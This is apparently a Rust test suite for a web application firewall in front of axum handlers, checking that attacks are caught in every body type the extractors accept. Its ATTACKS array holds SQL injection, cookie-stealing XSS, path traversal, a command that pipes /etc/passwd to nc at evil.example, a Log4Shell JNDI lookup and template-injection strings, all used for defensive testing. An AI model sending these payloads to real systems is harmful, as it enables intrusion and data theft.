//! Whatever an extractor of axum takes for a body, the built-in rules have to take for one: every type that it accepts, with every kind
//! of attack in it. What the extractor accepts is asked of it, not written down here.
#![expect(clippy::unwrap_used, reason = "in a test a panic is the report")]

use axum::body::Body;
use axum::extract::Multipart;
use axum::routing::post;
use axum::{Form, Json, Router};
use fusebox_core::Registration;
use fusebox_waf::{Ruleset, WafLayer};
use http::{Request, StatusCode};
use http_body_util::BodyExt as _;
use tower::ServiceExt as _;

const ATTACKS: [&str; 7] = [
    "1' or '1'='1",
    "1' union select password from users--",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc evil.example 4444",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}${7*7}<%= 7*7 %>",
];
const HARMLESS: &str = "two red shoes, please";

/// What a client may call a body. Two lines are two fields.
const TYPES: [&str; 38] = [
    "application/json",
    "application/json; charset=utf-8",
    "Application/JSON",
    "application/vnd.api+json",
    "application/a_b+json",
    "application/a!#$&-^_.+json",
    "application/a+b+json",
    "application/+json",
    "application/json+x",
    "application/json+xml",
    "application/x-www-form-urlencoded+json",
    "text/json",
    "application/json\nimage/png",
    "application/json\napplication/x-www-form-urlencoded",
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-8",
    "application/x-www-form-urlencodedx",
    "application/x-www-form-urlencoded+xml",
    "application/x-www-form-urlencoded, image/png",
    "application/x-www-form-urlencoded\napplication/xml",
    "application/x-www-form-urlencoded\nimage/png",
    "multipart/form-data; boundary=x",
    "Multipart/Form-Data; boundary=x",
    "multipart/form-data+json; boundary=x",
    "multipart/form-data+xml; boundary=x",
    "multipart/form-data; boundary=x\ntext/plain",
    "multipart/mixed; boundary=x",
    "text/plain",
    "text/html; charset=utf-8",
    "text/csv",
    "application/graphql",
    "application/x-ndjson",
    "application/yaml",
    "application/xml",
    "image/svg+xml",
    "nonsense",
    "unheard/of",
    "",
];

fn router() -> Router {
    Router::new()
        .route(
            "/json",
            post(async |Json(value): Json<serde_json::Value>| {
                value.get("q").unwrap().as_str().unwrap().to_owned()
            }),
        )
        .route(
            "/form",
            post(async |Form(mut fields): Form<Vec<(String, String)>>| {
                fields.pop().unwrap_or_default().1
            }),
        )
        .route(
            "/multipart",
            post(async |mut parts: Multipart| {
                let mut text = String::new();
                while let Ok(Some(part)) = parts.next_field().await {
                    text = part.text().await.unwrap_or_default();
                }
                text
            }),
        )
        .route("/text", post(async |text: String| text))
}

/// A body that the handler under this path finds the value in.
fn body(path: &str, value: &str) -> String {
    match path {
        "/json" => serde_json::json!({ "q": value }).to_string(),
        "/form" => {
            let escaped: String = value.bytes().map(|byte| format!("%{byte:02x}")).collect();
            format!("q={escaped}")
        }
        "/multipart" => {
            format!("--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n--x--\r\n")
        }
        _ => value.to_owned(),
    }
}

/// The status, and what the handler found.
async fn send(
    router: &Router,
    path: &str,
    kinds: Option<&str>,
    value: &str,
) -> (StatusCode, String) {
    let mut request = Request::post(path)
        .header("host", "shop.example")
        .header("user-agent", "Mozilla/5.0")
        .header("accept", "*/*");
    for kind in kinds.into_iter().flat_map(|kinds| kinds.split('\n')) {
        request = request.header("content-type", kind);
    }
    let request = request.body(Body::from(body(path, value))).unwrap();
    let answer = router.clone().oneshot(request).await.unwrap();
    let status = answer.status();
    let found = answer.into_body().collect().await.unwrap().to_bytes();
    (status, String::from_utf8_lossy(&found).into_owned())
}

fn is_form(kinds: &str) -> bool {
    kinds.starts_with("application/x-www-form-urlencoded")
}

fn firewall() -> WafLayer {
    let rules = Ruleset::builder("extractors")
        .core()
        .registration(Registration::Unlisted);
    rules.build().unwrap().layer()
}

#[tokio::test]
async fn what_an_extractor_accepts_is_inspected_as_what_it_accepts_it_for() {
    let (bare, behind) = (router(), router().layer(firewall()));
    let mut missed = Vec::new();
    for (path, at_least) in [
        ("/json", 10),
        ("/form", 6),
        ("/multipart", 4),
        ("/text", 38),
    ] {
        let mut accepted = 0;
        for kinds in TYPES.into_iter().map(Some).chain([None]) {
            let (status, found) = send(&bare, path, kinds, HARMLESS).await;
            if status != StatusCode::OK || found != HARMLESS {
                continue;
            }
            accepted += 1;
            // Text that calls itself a form is taken apart as one, and is one to whoever checks the type.
            if path == "/text" && kinds.is_some_and(is_form) {
                continue;
            }
            for attack in ATTACKS {
                let (_, found) = send(&bare, path, kinds, attack).await;
                assert_eq!(found, attack, "{path} {kinds:?}");
                let (status, _) = send(&behind, path, kinds, attack).await;
                if status.is_success() {
                    missed.push(format!("{path} {kinds:?} {attack}"));
                }
            }
        }
        assert!(accepted >= at_least, "{path} accepts only {accepted} types");
    }
    assert!(missed.is_empty(), "{} pass: {missed:#?}", missed.len());
}

#[tokio::test]
async fn honest_bodies_of_every_kind_arrive() {
    let behind = router().layer(firewall());
    for (path, kind) in [
        ("/json", "application/json"),
        ("/json", "application/a_b+json"),
        ("/form", "application/x-www-form-urlencoded"),
        ("/multipart", "multipart/form-data; boundary=x"),
        ("/text", "text/plain"),
        ("/text", "text/csv"),
        ("/text", "unheard/of"),
        ("/text", "application/octet-stream"),
    ] {
        let (status, found) = send(&behind, path, Some(kind), HARMLESS).await;
        assert_eq!(
            (status, found.as_str()),
            (StatusCode::OK, HARMLESS),
            "{path} {kind}"
        );
    }
}

/// The limit that the documentation states: a type that says it is no text is taken at its word.
#[tokio::test]
async fn what_says_that_it_is_no_text_streams_without_a_look() {
    let behind = router().layer(firewall());
    for kind in [
        "application/octet-stream",
        "image/png",
        "application/pdf",
        "video/mp4",
    ] {
        let (status, _) = send(&behind, "/text", Some(kind), ATTACKS[0]).await;
        assert_eq!(status, StatusCode::OK, "{kind}");
    }
}
